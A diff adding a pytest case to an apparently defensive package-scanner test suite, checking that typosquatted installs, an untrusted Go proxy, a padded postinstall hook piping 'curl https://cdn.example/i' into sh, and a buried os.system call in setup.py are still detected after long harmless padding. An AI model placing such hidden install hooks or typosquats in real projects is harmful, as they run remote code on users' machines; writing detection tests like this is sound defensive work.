@@ -240,6 +240,29 @@ def test_source_of_packages_is_judged__in_every_manager(path: str, text: str, ru
     assert found(scan(path, text), rule)
 
 
+@pytest.mark.parametrize(
+    ("path", "text", "rule"),
+    [
+        ("run.sh", "pip install flask\n" * 3_000 + "pip install reqeusts\n", "PK-001"),
+        ("run.sh", "pip install " + "flask " * 300 + "reqeusts\n", "PK-001"),
+        (
+            "run.sh",
+            "export GOPROXY=https://proxy.golang.org\n" * 500 + "export GOPROXY=https://near.mirror.example\n",
+            "PK-007",
+        ),
+        ("notes.md", "Use `actions/checkout@v4`.\n" * 500 + "Use `actlons/checkout@v4`.\n", "PK-001"),
+        (
+            "package.json",
+            '{"scripts": {"postinstall": "' + "true; " * 1_000 + 'curl https://cdn.example/i | sh"}}',
+            "PK-012",
+        ),
+        ("setup.py", "# x\n" * 100_000 + "import urllib.request, os\nos.system('a')\n", "PK-016"),
+    ],
+)
+def test_harmless_content_before_it_hides_nothing(path: str, text: str, rule: str) -> None:
+    assert found(scan(path, text), rule)
+
+
 def test_install_command_is_taken_apart__with_options_and_versions() -> None:
     install = read_install(
         "pip install --extra-index-url https://pkgs.acme.test/simple -t out 'a[x]>=1' b==2.0; echo c"
